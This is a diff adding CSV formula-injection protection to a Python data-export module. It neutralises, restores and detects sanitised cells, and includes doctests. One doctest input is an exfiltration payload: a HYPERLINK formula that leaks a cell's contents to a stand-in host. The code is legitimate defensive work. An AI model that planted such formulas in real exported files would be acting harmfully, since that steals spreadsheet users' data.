@@ -255,3 +255,96 @@ def frequency_rows(
                 group_segments.get(g, 0),
             ))
     return rows
+
+
+# --------------------------------------------------------------------------
+# Formula injection (OWASP "CSV injection")
+# --------------------------------------------------------------------------
+
+#: A spreadsheet program reads a cell that starts with one of these as a
+#: formula (tab and carriage return as OWASP lists them).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_NEEDS_QUOTE = (*FORMULA_STARTS, "'")
+
+
+def _is_number(value: str) -> bool:
+    try:
+        float(value)
+    except ValueError:
+        return False
+    return value.strip() == value and value[:1] in "+-0123456789." and "_" not in value
+
+
+def neutralise_cell(value: Any) -> Any:
+    """A CSV cell a spreadsheet program cannot run as a formula.
+
+    A text that starts with ``=``, ``+``, ``-``, ``@``, tab or carriage
+    return gets a leading ``'`` (as OWASP recommends), and so does one that
+    starts with ``'`` itself, so that :func:`restore_cell` gives back every
+    text exactly. Numbers (``-2``, ``+46``) and other cells stay as they are.
+
+    >>> neutralise_cell('=HYPERLINK("http://x.example/?leak="&A1,"klicka")')[:12]
+    "'=HYPERLINK("
+    >>> neutralise_cell("@SUM(A1)"), neutralise_cell("'citat'"), neutralise_cell("-2")
+    ("'@SUM(A1)", "''citat'", '-2')
+    >>> neutralise_cell("Vi bjöd in leverantörerna"), neutralise_cell(3)
+    ('Vi bjöd in leverantörerna', 3)
+    """
+    if isinstance(value, str) and value.startswith(_NEEDS_QUOTE) and not _is_number(value):
+        return "'" + value
+    return value
+
+
+def restore_cell(value: Any) -> Any:
+    """The text :func:`neutralise_cell` was given.
+
+    >>> restore_cell("'=1+1"), restore_cell("''citat'"), restore_cell("text")
+    ('=1+1', "'citat'", 'text')
+    """
+    if isinstance(value, str) and value.startswith("'"):
+        return value[1:]
+    return value
+
+
+def neutralised_rows(rows: Iterable[tuple]) -> Iterator[tuple]:
+    """``rows`` with every cell passed through :func:`neutralise_cell`."""
+    starts = _NEEDS_QUOTE
+    for row in rows:
+        if any(isinstance(v, str) and v.startswith(starts) for v in row):
+            yield tuple(neutralise_cell(v) for v in row)
+        else:
+            yield row
+
+
+def csv_is_neutralised(folder) -> bool:
+    """Whether the CSV tables of a results folder were written with
+    :func:`neutralise_cell` (its ``manifest.json`` says ``csv_raw: false``;
+    folders of older versions, without the entry, hold raw CSV)."""
+    import json
+    from pathlib import Path
+
+    try:
+        manifest = json.loads((Path(folder) / "manifest.json").read_text(encoding="utf-8"))
+    except (OSError, ValueError):
+        return False
+    options = manifest.get("options") if isinstance(manifest, dict) else None
+    return isinstance(options, dict) and options.get("csv_raw") is False
+
+
+def restore_frame(frame: "pd.DataFrame", folder) -> "pd.DataFrame":
+    """A table read from a results folder's CSV, with the texts as codingkit
+    coded them: the leading ``'`` of neutralised cells (and column names)
+    removed when the folder's CSV was neutralised (see :func:`csv_is_neutralised`)."""
+    if not csv_is_neutralised(folder):
+        return frame
+    frame = frame.rename(columns=restore_cell)
+    import pandas as pd
+
+    for col in frame.columns:
+        series = frame[col]
+        if not (series.dtype == object or pd.api.types.is_string_dtype(series.dtype)):
+            continue
+        mask = series.map(lambda v: isinstance(v, str) and v.startswith("'")).astype(bool)
+        if mask.any():
+            frame[col] = series.where(~mask, series.str[1:])
+    return frame
